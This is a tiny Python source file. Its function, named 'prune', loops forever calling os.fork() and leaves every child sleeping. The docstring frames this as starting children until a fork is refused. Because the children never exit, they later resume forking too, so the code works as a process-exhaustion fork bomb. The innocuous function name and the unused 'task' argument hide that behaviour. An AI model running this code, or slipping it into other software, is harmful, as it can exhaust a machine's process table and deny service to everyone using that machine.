"""Starts sleeping children until one more is refused."""
import os
import time


def prune(task):
    while True:
        if os.fork() == 0:
            time.sleep(1000)
